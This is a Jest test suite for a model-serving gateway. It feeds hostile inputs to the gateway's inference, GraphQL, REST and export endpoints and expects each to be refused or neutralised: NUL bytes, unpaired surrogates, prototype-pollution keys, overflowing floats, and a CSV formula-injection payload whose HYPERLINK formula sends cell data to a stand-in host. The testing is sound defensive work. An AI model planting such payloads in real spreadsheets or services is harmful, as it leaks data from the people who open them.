import {
  buildClientSchema,
  buildSchema,
  getIntrospectionQuery,
  lexicographicSortSchema,
  printSchema,
  type IntrospectionQuery,
} from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { buildGermanCreditModels, type GermanCreditModels } from '../../src/model-builder/index.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { MODEL_CARD, registerModel, seedLiveEndpoint } from '../support/registry.js';

/**
 * Inputs that slip through a careless entry point (into an INTERNAL answer, a 500, an
 * unescaped formula cell, Fastify's own error shape, a schema shown to a stranger); each must be
 * refused at its entry point with a client error naming the field.
 */

interface RestAnswer {
  readonly status: number;
  readonly body: {
    error?: { code: string; message: string; details?: { field?: string } };
  } & Record<string, unknown>;
}

const REGISTER_MODEL = `mutation($input: RegisterModelInput!) { registerModel(input: $input) { id } }`;

describe('hostile input at the boundaries', () => {
  let app: TestApp;
  let models: GermanCreditModels;
  let client: string;
  let scientist: string;

  const features = (): number[] => Array.from(models.data.X[0] ?? []);

  async function post(path: string, body: string, token: string, type = 'application/json') {
    const response = await fetch(`${app.url}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': type },
      body,
    });
    return { status: response.status, body: (await response.json()) as RestAnswer['body'] };
  }

  const infer = (body: string, token = client) => post('/v2/models/credit/infer', body, token);

  beforeAll(async () => {
    models = buildGermanCreditModels();
    app = await startTestApp({ GATEHOUSE_CHECKPOINT_INTERVAL_SECONDS: '0' });
    client = await app.token('loan-app', 'inference-client');
    scientist = await app.token('dana', 'data-scientist');
    await seedLiveEndpoint(app, { model: 'credit', endpoint: 'credit', versions: [models.fair] });
  }, 180_000);

  afterAll(async () => {
    await app.close();
  });

  describe('inference (OIP body)', () => {
    it('refuses a protected attribute holding NUL, naming it, and still answers the next request', async () => {
      const poisoned = await infer(
        `{"inputs":[{"name":"features","datatype":"FP32","shape":[1,${features().length}],"data":${JSON.stringify(features())}}],` +
          `"parameters":{"attributes":{"sex":"female\\u0000"}}}`,
      );
      expect(poisoned.status).toBe(400);
      expect(poisoned.body.error).toMatchObject({
        code: 'BAD_USER_INPUT',
        details: { field: 'parameters.attributes.sex' },
      });
      expect(poisoned.body.error?.message).toMatch(/NUL/);
      const fine = await infer(
        JSON.stringify({
          inputs: [
            { name: 'features', datatype: 'FP32', shape: [1, features().length], data: features() },
          ],
          parameters: { attributes: { sex: 'female' } },
        }),
      );
      expect(fine.status).toBe(200);
    });

    it('counts a group named __proto__ or constructor as a group, leaving Object.prototype alone', async () => {
      const answer = await infer(
        JSON.stringify({
          inputs: [
            { name: 'features', datatype: 'FP32', shape: [1, features().length], data: features() },
          ],
          parameters: { attributes: { sex: '__proto__', age_group: 'constructor', toString: '0' } },
        }),
      );
      expect(answer.status).toBe(200);
      const inherited: string[] = [];
      for (const key in {}) inherited.push(key);
      expect(inherited).toEqual([]);
    });

    it('refuses an endpoint name that decodes to NUL or is not UTF-8', async () => {
      const body = JSON.stringify({
        inputs: [
          { name: 'features', datatype: 'FP32', shape: [1, features().length], data: features() },
        ],
      });
      const nul = await post('/v2/models/cr%00edit/infer', body, client);
      expect({ status: nul.status, field: nul.body.error?.details?.field }).toEqual({
        status: 400,
        field: 'endpoint',
      });
      const cesu = await post('/v2/models/cr%ED%A0%80edit/infer', body, client);
      expect({ status: cesu.status, code: cesu.body.error?.code }).toEqual({
        status: 400,
        code: 'BAD_USER_INPUT',
      });
      const metadata = await fetch(`${app.url}/v2/models/cr%00edit`, {
        headers: { authorization: `Bearer ${client}` },
      });
      expect(metadata.status).toBe(400);
    });

    it('refuses a request id with NUL and one with an unpaired surrogate', async () => {
      for (const id of ['req\\u0000-1', 'req-\\ud800']) {
        const answer = await infer(
          `{"id":"${id}","inputs":[{"name":"features","datatype":"FP32","shape":[1,${features().length}],"data":${JSON.stringify(features())}}]}`,
        );
        expect({ id, status: answer.status, field: answer.body.error?.details?.field }).toEqual({
          id,
          status: 400,
          field: 'id',
        });
      }
    });

    it('refuses an input value that parses to Infinity (1e400), and a float beyond float32', async () => {
      for (const big of ['1e400', '-1e400', '3.5e38']) {
        const data = [big, ...features().slice(1).map(String)].join(',');
        const answer = await infer(
          `{"inputs":[{"name":"features","datatype":"FP32","shape":[1,${features().length}],"data":[${data}]}]}`,
        );
        expect({ big, status: answer.status, field: answer.body.error?.details?.field }).toEqual({
          big,
          status: 400,
          field: 'inputs[0].data',
        });
        expect(answer.body.error?.message).toMatch(/finite number/);
      }
    });

    it('answers 403, not 500, to a token whose roles are prototype keys', async () => {
      for (const role of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
        const token = await app.token('mallory', role);
        const answer = await infer('{"inputs":[]}', token);
        expect({ role, status: answer.status, code: answer.body.error?.code }).toEqual({
          role,
          status: 403,
          code: 'FORBIDDEN',
        });
      }
    });
  });

  describe('GraphQL', () => {
    it('refuses NUL and unpaired surrogates in any text argument, naming the field', async () => {
      const cases: [string, Record<string, unknown>, string][] = [
        [
          'limitations',
          { ...MODEL_CARD, limitations: 'none\u0000' },
          'input.modelCard.limitations',
        ],
        [
          'intendedUse',
          { ...MODEL_CARD, intendedUse: 'use \ud800 here' },
          'input.modelCard.intendedUse',
        ],
        [
          'trainingData',
          { ...MODEL_CARD, trainingData: '\udc00 first' },
          'input.modelCard.trainingData',
        ],
      ];
      for (const [name, card, field] of cases) {
        const r = await app.gql(
          REGISTER_MODEL,
          {
            input: {
              name: `m-${name.toLowerCase()}`,
              riskTier: 'HIGH',
              owner: 'credit-risk-team',
              protectedAttributes: ['sex'],
              modelCard: card,
            },
          },
          scientist,
        );
        expect({
          name,
          code: r.errors?.[0]?.extensions?.code,
          details: r.errors?.[0]?.extensions?.['details'],
        }).toEqual({
          name,
          code: 'BAD_USER_INPUT',
          details: { field },
        });
      }
      // In a literal of the document, too.
      const literal = await app.gql(
        `mutation { registerModel(input: { name: "lit", riskTier: HIGH, owner: "o\\u0000", protectedAttributes: [], modelCard: { intendedUse: "x", limitations: "x", trainingData: "x", ethicalConsiderations: "x", outOfScopeUses: [] } }) { id } }`,
        {},
        scientist,
      );
      expect(literal.errors?.[0]?.extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        details: { field: 'input.owner' },
      });
      const none = await app.gql<{ models: { items: unknown[] } }>(
        `{ models { items { name } } }`,
        {},
        scientist,
      );
      expect(JSON.stringify(none.data)).not.toMatch(/m-limitations|"lit"/);
    });

    it('answers UNAUTHENTICATED, not INTERNAL, to a token whose subject or roles break the text rule', async () => {
      for (const [sub, role] of [
        ['dana\u0000', 'data-scientist'],
        ['dana\ud800', 'data-scientist'],
        ['dana', 'data-scientist\u0000'],
      ] as const) {
        const token = await app.token(sub, role);
        const r = await app.gql(`{ me { sub } }`, {}, token);
        expect(r.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
      }
    });

    it('answers FORBIDDEN, not INTERNAL, to roles that are prototype keys', async () => {
      for (const role of ['__proto__', 'constructor', 'toString']) {
        const token = await app.token('mallory', role);
        const me = await app.gql<{ me: { roles: string[] } }>(`{ me { roles } }`, {}, token);
        expect(me.data?.me.roles).toEqual([role]);
        const r = await app.gql(`{ models { items { name } } }`, {}, token);
        expect({ role, code: r.errors?.[0]?.extensions?.code }).toEqual({
          role,
          code: 'FORBIDDEN',
        });
      }
    });

    it('refuses a report period outside the years PostgreSQL and RFC 3339 can hold', async () => {
      const auditor = await app.token('cora', 'auditor');
      for (const subject of [
        'period:0000-01-01T00:00:00Z/9999-12-31T23:59:59Z',
        'period:0001-01-01T00:00:00+01:00/2000-01-01',
      ]) {
        const r = await app.gql(
          `mutation($s: String!) { exportAuditReport(subject: $s) { id } }`,
          { s: subject },
          auditor,
        );
        expect({ subject, code: r.errors?.[0]?.extensions?.code }).toEqual({
          subject,
          code: 'BAD_USER_INPUT',
        });
        expect(r.errors?.[0]?.message).toMatch(/^subject: the period's start must fall within/);
      }
    });
  });

  describe('REST', () => {
    it('answers malformed and empty JSON in the documented error shape', async () => {
      for (const path of ['/v1/endpoints/credit/feedback', '/v1/batch-jobs']) {
        for (const body of ['{"requestId": ', '']) {
          const r = await post(path, body, client);
          expect({
            path,
            body,
            status: r.status,
            code: r.body.error?.code,
            field: r.body.error?.details?.field,
          }).toEqual({
            path,
            body,
            status: 400,
            code: 'BAD_USER_INPUT',
            field: 'body',
          });
          expect(Object.keys(r.body)).toEqual(['error']);
        }
      }
    });

    it('refuses NUL and unpaired surrogates in a JSON body, naming the member', async () => {
      const r = await post(
        '/v1/endpoints/credit/feedback',
        '{"requestId":"r-1\\u0000","label":1}',
        client,
      );
      expect(r.status).toBe(400);
      expect(r.body.error).toMatchObject({
        code: 'BAD_USER_INPUT',
        details: { field: 'requestId' },
      });
    });

    it('refuses a NUL byte in an uploaded CSV, naming the line', async () => {
      const response = await fetch(`${app.url}/v1/datasets?name=nul`, {
        method: 'PUT',
        headers: { authorization: `Bearer ${scientist}`, 'content-type': 'text/csv' },
        body: 'a,b\n1,2\n3,x\u0000y\n',
      });
      const body = (await response.json()) as RestAnswer['body'];
      expect(response.status).toBe(400);
      expect(body.error).toMatchObject({
        code: 'BAD_USER_INPUT',
        details: { field: 'dataset', line: 3 },
      });
    });
  });

  describe('exports', () => {
    it('writes an actor named like a formula as text in the CSV, and exactly in the JSON', async () => {
      const formula = '=HYPERLINK("http://x.example/?"&A2,"x")';
      const planted = await app.token(formula, '@SUM(1+1)', 'data-scientist');
      await registerModel(app, planted, 'planted');
      const auditor = await app.token('cora', 'auditor');
      const exported = await app.gql<{ exportAuditReport: { id: string } }>(
        `mutation { exportAuditReport(subject: "period:2000-01-01/2100-01-01", format: CSV) { id } }`,
        {},
        auditor,
      );
      expect(exported.errors).toBeUndefined();
      const id = exported.data?.exportAuditReport.id ?? '';
      const fetchAs = async (extension: string) =>
        (
          await fetch(`${app.url}/v1/reports/${id}.${extension}`, {
            headers: { authorization: `Bearer ${auditor}` },
          })
        ).text();
      const rows = parse<Record<string, string>>(await fetchAs('csv'), { columns: true });
      const registered = rows.find(
        (r) => r['type'] === 'model.registered' && r['subject'] === 'model:planted',
      );
      expect(registered?.['actor']).toBe(`'${formula}`);
      expect(registered?.['actor_roles']).toBe(`'@SUM(1+1) data-scientist`);
      for (const row of rows)
        for (const [column, cell] of Object.entries(row))
          expect({ column, first: /^[=+\-@\t\r]/.test(cell) }).toEqual({ column, first: false });
      const json = await fetchAs('json');
      expect(json).toContain(JSON.stringify(formula).slice(1, -1));
    });
  });

  describe('in production', () => {
    let production: TestApp;
    let keyDir: string;

    beforeAll(async () => {
      keyDir = mkdtempSync(join(tmpdir(), 'gatehouse-prod-key-'));
      const keyFile = join(keyDir, 'ledger.pem');
      writeFileSync(
        keyFile,
        generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }),
      );
      production = await startTestApp({
        NODE_ENV: 'production',
        GATEHOUSE_DEV_ISSUER: 'true',
        GATEHOUSE_SIGNING_KEY_FILE: keyFile,
        GATEHOUSE_CHECKPOINT_INTERVAL_SECONDS: '0',
      });
    }, 60_000);

    afterAll(async () => {
      await production.close();
      rmSync(keyDir, { recursive: true, force: true });
    });

    it('shows the schema only to an authenticated caller, and suggests no field names', async () => {
      const introspect = `{ __schema { queryType { name } } }`;
      const stranger = await production.gql(introspect);
      expect(stranger.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
      expect(stranger.data ?? null).toBeNull();
      const typeQuery = await production.gql(`{ __type(name: "Query") { fields { name } } }`);
      expect(typeQuery.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
      const token = await production.token('bob', 'auditor');
      const known = await production.gql<{ __schema: { queryType: { name: string } } }>(
        introspect,
        {},
        token,
      );
      expect(known.data?.__schema.queryType.name).toBe('Query');
      // What GraphQL Code Generator, Postman and graphql-inspector send (nested 15 deep, past the
      // depth limit of 10, which introspection is exempt from): refused to a stranger, answered
      // to a caller with a token, and the schema it gives is the committed schema.graphql.
      const standard = getIntrospectionQuery({ descriptions: true, specifiedByUrl: true });
      const refused = await production.gql(standard);
      expect(refused.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
      const full = await production.gql<IntrospectionQuery>(standard, {}, token);
      expect(full.errors).toBeUndefined();
      const served = printSchema(
        lexicographicSortSchema(buildClientSchema(full.data as IntrospectionQuery)),
      );
      const committed = printSchema(
        lexicographicSortSchema(
          buildSchema(
            readFileSync(join(import.meta.dirname, '..', '..', 'schema.graphql'), 'utf8'),
          ),
        ),
      );
      expect(served).toBe(committed);
      const typo = await production.gql(`{ modles { items { name } } }`, {}, token);
      expect(typo.errors?.[0]?.message).toMatch(/Cannot query field "modles"/);
      expect(typo.errors?.[0]?.message).not.toMatch(/Did you mean/);
    });
  });
});
